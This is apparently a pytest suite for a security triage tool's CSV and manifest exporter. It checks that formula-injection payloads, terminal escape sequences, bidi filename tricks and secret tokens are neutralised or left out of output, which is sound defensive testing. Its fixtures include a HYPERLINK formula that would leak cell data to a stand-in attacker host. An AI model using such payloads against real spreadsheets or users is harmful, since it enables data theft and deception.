"""Findings files: formula and escape safety cell by cell, secrets, UTC times, determinism, manifest."""

from __future__ import annotations

import csv
import json
from datetime import datetime, timezone
from pathlib import Path

import duckdb
import pyarrow as pa
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import tui
from tui.engine.case.state import sha256_of
from tui.engine.core.options import Options
from tui.engine.core.safe import inert_cell, neutralise_formula
from tui.engine.findings import export
from tui.engine.findings.export import write_csv, write_manifest


def arrow(sql: str) -> pa.Table:
    con = duckdb.connect()
    con.execute("SET TimeZone = 'UTC'")
    return con.sql(sql).to_arrow_table()


def read(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


TEXT_CELLS = [
    (
        '=HYPERLINK("http://evil.example/?d="&A1,"click")',
        '\'=HYPERLINK("http://evil.example/?d="&A1,"click")',
    ),
    ("+1", "'+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tcmd", "'\\x09cmd"),
    ("\rcmd", "'\\x0dcmd"),
    ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
    ("\x1b]52;c;ZXZpbA==\x07", "\\x1b]52;c;ZXZpbA==\\x07"),
    ("invoice\u202etxt.exe", "invoice\\u202etxt.exe"),
    ("\u2066isolate\u2069", "\\u2066isolate\\u2069"),
    ("line1\nline2", "line1\\x0aline2"),
    ("nul\x00byte", "nul\\x00byte"),
    ('a,b "quoted"', 'a,b "quoted"'),
    ("adele.vance@contoso.com", "adele.vance@contoso.com"),
    ("", ""),
]


def test_text_cells_neutralised_and_inert(tmp_path: Path) -> None:
    values = [v for v, _ in TEXT_CELLS]
    table = pa.table({"n": pa.array(range(len(values)), pa.int64()), "user": pa.array(values, pa.string())})
    out = tmp_path / "cells.csv"
    assert write_csv(table, out) == len(values)
    rows = read(out)
    assert rows[0] == ["n", "user"]
    assert [r[1] for r in rows[1:]] == [expected for _, expected in TEXT_CELLS]
    raw = out.read_bytes()
    assert b"\x1b" not in raw and b"\r" not in raw and b"\x00" not in raw
    assert "\u202e".encode() not in raw
    assert raw.count(b"\n") == len(values) + 1
    assert raw.splitlines()[1] == b'0,"\'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"'


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    table = arrow(
        "SELECT * FROM (VALUES (-2::BIGINT, -1.5::DOUBLE, '-2', -3::INTEGER, 18446744073709551615::UBIGINT, "
        "1.25::DECIMAL(10,2), true)) t(delta, score, txt, i32, key, dec, ok)"
    )
    out = tmp_path / "n.csv"
    write_csv(table, out)
    assert (
        out.read_text() == "delta,score,txt,i32,key,dec,ok\n-2,-1.5,'-2,-3,18446744073709551615,1.25,true\n"
    )


def test_times_lists_and_nulls(tmp_path: Path) -> None:
    table = arrow(
        """SELECT * FROM (VALUES
            (TIMESTAMP '2023-06-01 04:05:03', TIMESTAMPTZ '2023-06-01 06:05:03+02', ['a', NULL, 'b'],
             [TIMESTAMP '2023-06-01 00:00:00'], DATE '2023-06-01', 'x'),
            (TIMESTAMP '2023-06-01 04:05:03.12', NULL, ['=cmd'], [], NULL, NULL),
            (NULL, TIMESTAMPTZ '2023-12-31 23:30:00-01:00', NULL, NULL, NULL, '@x')
        ) t(ts, seen, ips, times, day, note)"""
    )
    out = tmp_path / "t.csv"
    write_csv(table, out)
    assert out.read_text() == (
        "ts,seen,ips,times,day,note\n"
        "2023-06-01T04:05:03Z,2023-06-01T04:05:03Z,a;;b,2023-06-01T00:00:00Z,2023-06-01,x\n"
        '2023-06-01T04:05:03.120000Z,,\'=cmd,"",,\n'
        ",2024-01-01T00:30:00Z,,,,'@x\n"
    )


def test_token_only_with_secrets(tmp_path: Path) -> None:
    table = pa.table({"tok_sha256": ["ab12"], "token": ["eyJhbGciOiJub25lIn0.e30."], "upn": ["a@b"]})
    write_csv(table, tmp_path / "plain.csv")
    write_csv(table, tmp_path / "secret.csv", include_secrets=True)
    assert (tmp_path / "plain.csv").read_text() == "tok_sha256,upn\nab12,a@b\n"
    assert (
        tmp_path / "secret.csv"
    ).read_text() == "tok_sha256,token,upn\nab12,eyJhbGciOiJub25lIn0.e30.,a@b\n"


def test_hostile_header(tmp_path: Path) -> None:
    table = pa.table({"=cmd": [1], "a\x1bb": ["x"]})
    write_csv(table, tmp_path / "h.csv")
    assert (tmp_path / "h.csv").read_text() == "'=cmd,a\\x1bb\n1,x\n"


def test_byte_identical_across_batches(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    table = arrow(
        "SELECT i AS n, 'user' || i AS u, TIMESTAMP '2023-06-01' + INTERVAL (i) SECOND AS ts, "
        "CASE WHEN i % 7 = 0 THEN '=x' || i ELSE NULL END AS f FROM range(10) r(i) ORDER BY i"
    )
    write_csv(table, tmp_path / "one.csv")
    monkeypatch.setattr(export, "BATCH_ROWS", 3)
    assert write_csv(table, tmp_path / "three.csv") == 10
    write_csv(table, tmp_path / "again.csv")
    one = (tmp_path / "one.csv").read_bytes()
    assert one == (tmp_path / "three.csv").read_bytes() == (tmp_path / "again.csv").read_bytes()
    lines = one.decode().splitlines()
    assert lines[0] == "n,u,ts,f" and len(lines) == 11
    assert lines[8] == "7,user7,2023-06-01T00:00:07Z,'=x7"
    assert not list(tmp_path.glob("*.part"))


def test_empty_table(tmp_path: Path) -> None:
    table = pa.table({"a": pa.array([], pa.int64()), "b": pa.array([], pa.string())})
    assert write_csv(table, tmp_path / "e.csv") == 0
    assert (tmp_path / "e.csv").read_text() == "a,b\n"


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(values=st.lists(st.one_of(st.none(), st.text(st.characters(codec="utf-8"))), min_size=1, max_size=30))
def test_any_text_matches_safe_rules(tmp_path: Path, values: list[str | None]) -> None:
    out = tmp_path / "p.csv"
    write_csv(pa.table({"v": pa.array(values, pa.string())}), out)
    raw = out.read_bytes()
    assert not any(b < 0x20 and b != 0x0A for b in raw)
    cells = [r[0] if r else "" for r in read(out)[1:]]
    assert cells == [inert_cell(neutralise_formula(v)) if v is not None else "" for v in values]


def test_sha256_of_a_file(tmp_path: Path) -> None:
    path = tmp_path / "abc"
    path.write_bytes(b"abc")
    assert sha256_of(path) == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"


def _manifest(path: Path, **kwargs: object) -> dict[str, object]:
    options = Options(
        jwks=(Path("/evidence/jwks.json"),), baseline_until=datetime(2023, 6, 1), tenants=("43bf",)
    )
    write_manifest(
        path,
        inputs=[{"path": Path("/evidence/gateway.parquet"), "sha256": "00ff", "rows": 3, "kind": "http",
                 "format": "parquet"}],
        options=options,
        outputs=["tokens.csv", "mailboxes.csv"],
        **kwargs,  # type: ignore[arg-type]
    )  # fmt: skip
    loaded: dict[str, object] = json.loads(path.read_text())
    return loaded


def test_manifest_content(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1686000000")
    doc = _manifest(tmp_path / "manifest.json", extra={"filter": "sev>=high"})
    assert doc["tool"] == {"name": "triage", "version": tui.__version__}
    assert doc["inputs"] == [
        {
            "path": "/evidence/gateway.parquet",
            "sha256": "00ff",
            "rows": 3,
            "kind": "http",
            "format": "parquet",
        }
    ]
    options = doc["options"]
    assert isinstance(options, dict)
    assert options["jwks"] == ["/evidence/jwks.json"]
    assert options["baseline_until"] == "2023-06-01T00:00:00Z"
    assert options["tenants"] == ["43bf"]
    assert options["window_days"] == 14 and options["include_secrets"] is False
    assert doc["outputs"] == ["tokens.csv", "mailboxes.csv"]
    assert doc["run"] == {"started_at": "2023-06-05T21:20:00Z", "clock": "SOURCE_DATE_EPOCH"}
    assert doc["filter"] == "sev>=high"
    text = (tmp_path / "manifest.json").read_text()
    assert text == json.dumps(doc, sort_keys=True, indent=2) + "\n"


def test_manifest_determinism(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1686000000")
    _manifest(tmp_path / "a.json")
    _manifest(tmp_path / "b.json")
    assert (tmp_path / "a.json").read_bytes() == (tmp_path / "b.json").read_bytes()

    monkeypatch.delenv("SOURCE_DATE_EPOCH")
    early = _manifest(tmp_path / "c.json", started_at=datetime(2023, 1, 2, 3, 4, 5, tzinfo=timezone.utc))
    late = _manifest(tmp_path / "d.json", started_at=datetime(2023, 1, 2, 3, 4, 6, tzinfo=timezone.utc))
    assert early["run"] == {"started_at": "2023-01-02T03:04:05Z", "clock": "system"}
    assert {k: v for k, v in early.items() if k != "run"} == {k: v for k, v in late.items() if k != "run"}
    now = _manifest(tmp_path / "e.json")["run"]
    assert isinstance(now, dict)
    started = datetime.fromisoformat(now["started_at"].replace("Z", "+00:00"))
    assert abs((datetime.now(timezone.utc) - started).total_seconds()) < 60


def test_manifest_rejects(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "yesterday")
    with pytest.raises(ValueError, match="SOURCE_DATE_EPOCH"):
        _manifest(tmp_path / "m.json")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "0")
    with pytest.raises(ValueError, match="reserved"):
        _manifest(tmp_path / "m.json", extra={"tool": "x"})
    assert not (tmp_path / "m.json").exists()


def test_time_units_and_hostile_second_column(tmp_path: Path) -> None:
    """Millisecond and nanosecond times keep a fraction only when it is not zero; a control
    character in the second text column is escaped and the first column is left as it was."""
    ms = pa.array([1_685_592_303_000, 1_685_592_303_120, None], pa.timestamp("ms"))
    ns = pa.array([1_685_592_303_000_000_000, 1_685_592_303_000_001_000, 5], pa.timestamp("ns"))
    table = pa.table({"ms": ms, "ns": ns, "plain": ["a", "b\\x1b", "c"], "odd": ["ok", "x\x1by", None]})
    write_csv(table, tmp_path / "u.csv")
    assert (tmp_path / "u.csv").read_text() == (
        "ms,ns,plain,odd\n"
        "2023-06-01T04:05:03Z,2023-06-01T04:05:03Z,a,ok\n"
        "2023-06-01T04:05:03.120Z,2023-06-01T04:05:03.000001000Z,b\\x1b,x\\x1by\n"
        ",1970-01-01T00:00:00.000000005Z,c,\n"
    )
